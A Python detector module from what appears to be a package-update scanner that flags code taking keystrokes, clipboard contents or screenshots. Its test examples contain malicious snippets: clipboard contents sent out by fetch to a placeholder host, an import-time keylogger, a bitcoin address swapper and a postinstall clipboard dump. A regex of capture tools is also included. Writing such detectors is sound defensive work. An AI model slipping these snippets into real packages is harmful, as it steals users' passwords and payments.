"""This update takes what the user types, copies or sees.

## What it detects
A global hook on the keyboard, the reading of the clipboard or a picture of the screen, by a library or a command, new
to the line: at once heavy where code that runs by itself does it or where what is taken goes to the network, and next
to nothing where a function of a library does it for its caller.

## Why it matters
Passwords, seeds of wallets and addresses of payments pass through keyboard and clipboard. A package that is imported
for something else has no reason to look there by itself.

## What it misses
Key events inside a web page that stay there, and those of a terminal program, which every form and every prompt
handles; hooks in native code.

## References
- MITRE ATT&CK T1056.001, Keylogging; T1115, Clipboard Data; T1113, Screen Capture
"""

import re
from collections.abc import Iterator
from functools import cache

from lazaretto.core.facts import Kind
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import Tally, decoded, new_chains, package_json, runs_by_itself
from lazaretto.core.update import ArtifactView, Pair, Placed, Update

CARD = Card(
    id="user-watched",
    title="Keyboard, clipboard or screen taken",
    variants={
        "taken-away": "What the user types, copies or sees goes to the network.",
        "exchanged": "Code that runs by itself reads the clipboard and puts something else there.",
        "autorun": "Code that runs by itself takes what the user types, copies or sees, as no earlier release did.",
        "call": "A function takes what the user types, copies or sees; no earlier release did anywhere.",
        "first-contact": "There is no earlier release; code that runs by itself takes it.",
    },
    group="watching",
    why="Passwords and payments pass through keyboard and clipboard.",
    attack=("T1195.002", "T1056.001", "T1115", "T1113"),
)

EXCHANGED = "clipboard exchanged"
"""The value of the fact that something was put into a clipboard that had been read."""

_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
_PASTE = (
    "const clipboard = require('clipboardy');\nexports.paste = function paste() { return clipboard.readSync(); };\n"
)

EXAMPLES = (
    Example(
        title="the entry file sends the clipboard away, again and again",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const clipboard = require('clipboardy');\n"
            "setInterval(() => fetch('https://collect.invalid/' + clipboard.readSync()), 1000);\n"
            "module.exports = (a) => a;\n",
        },
        expect="taken-away",
        at="index.js:2",
    ),
    Example(
        title="a Python package listens to the keyboard at import",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={
            "pad/__init__.py": "from pynput import keyboard\n"
            "keyboard.Listener(on_press=lambda key: print(key)).start()\nWIDTH = 2\n"
        },
        expect="autorun",
        at="pad/__init__.py:2",
    ),
    Example(
        title="a Python package exchanges what was copied",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={
            "pad/__init__.py": "import pyperclip\nif pyperclip.paste().startswith('bc1'):\n"
            "    pyperclip.copy('bc1qexample')\nWIDTH = 2\n"
        },
        expect="exchanged",
        at="pad/__init__.py:3",
    ),
    Example(
        title="first contact with an install script that reads the clipboard by a command",
        after={
            "package.json": package_json("1.0.0", scripts={"postinstall": "pbpaste > /tmp/pad"}),
            "index.js": "module.exports = (a) => a;\n",
        },
        expect="first-contact",
        at="package.json:6",
    ),
    Example(
        title="a function of a helper begins to read the clipboard",
        before=_BEFORE,
        after={"package.json": package_json("1.0.1"), "index.js": _PASTE},
        expect="call",
        at="index.js:2",
    ),
    Example(
        title="a program that always pasted",
        before={"package.json": package_json("1.0.0"), "index.js": _PASTE},
        after={"package.json": package_json("1.0.1"), "index.js": _PASTE + "exports.version = 2;\n"},
    ),
    Example(
        title="a button that copies a text, and the keys of a form",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "exports.copy = (a) => navigator.clipboard.writeText(a);\n"
            "document.addEventListener('keydown', (event) => event.key);\n",
        },
    ),
    Example(
        title="first contact with a library of the clipboard",
        after={"package.json": package_json("1.0.0"), "index.js": _PASTE},
    ),
)

_MESSAGES = {
    "taken-away": "sends to the network what the user types, copies or sees",
    "exchanged": "reads the clipboard and puts something else there, without being called",
    "autorun": "takes what the user types, copies or sees, without being called",
    "call": "takes what the user types, copies or sees when it is called, the first in this line",
    "first-contact": "takes what the user types, copies or sees, without being called",
}
_COMMANDS = r"""
    (?:^|[\s;&|(/"'`]) (?:
        (?:pbpaste|wl-paste|get-clipboard|screencapture|scrot|logkeys)(?:\.exe)?(?:$|[\s;&|)"'`])
        | xclip\s[^|;&]{0,60}-o\b | xsel\s[^|;&]{0,60}(?:-o\b|--output) | xinput\s+test
    )
"""


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant."""
    tally = Tally(CARD)
    for pair in update.pairs:
        sent = [chain for chain, _ in new_chains(pair, (Kind.USER_WATCH,), (Kind.NET_CONNECT, Kind.DNS_QUERY))]
        gone = {(chain.source.path, chain.source.fact) for chain in sent if chain.data}
        for chain in sent:
            if chain.data and (pair.before is not None or runs_by_itself(chain.sink)):
                _tell(tally, "taken-away", pair, chain.source, chain.sink)
        had = _watched(pair.before) if pair.before else frozenset()
        exchanged = {placed.path for placed in pair.after.placed if _exchanges(placed)}
        for placed in pair.gained(Kind.USER_WATCH, Kind.PROCESS_SPAWN):
            if not watches(placed) or (placed.path, placed.fact) in gone:
                continue
            alone = runs_by_itself(placed)
            if pair.before is None and alone:
                _tell(tally, "first-contact", pair, placed)
            elif pair.before is not None and (True not in had if alone else not had):
                if not alone or placed.path not in exchanged:
                    _tell(tally, "autorun" if alone else "call", pair, placed)
                elif _exchanges(placed):
                    _tell(tally, "exchanged", pair, placed)
    yield from tally.findings(_MESSAGES)


def watches(placed: Placed) -> bool:
    """Whether a place takes what the user types, copies or sees."""
    if placed.fact.kind is Kind.USER_WATCH:
        return True
    return placed.fact.kind is Kind.PROCESS_SPAWN and _pattern().search(placed.fact.value or "") is not None


def _exchanges(placed: Placed) -> bool:
    """Whether a place, without being called, puts something into a clipboard that was read."""
    return placed.fact.kind is Kind.USER_WATCH and placed.fact.value == EXCHANGED and runs_by_itself(placed)


def _tell(tally: Tally, variant: str, pair: Pair, *places: Placed) -> None:
    tally.add(variant, pair, *places)
    tally.explain(variant, decoded(pair, places[0].path))


def _watched(view: ArtifactView) -> frozenset[bool]:
    """Return for each place where the line watched whether it ran by itself."""
    return frozenset(runs_by_itself(placed) for placed in view.placed if watches(placed))


@cache
def _pattern() -> re.Pattern[str]:
    return re.compile(_COMMANDS, re.VERBOSE | re.IGNORECASE)
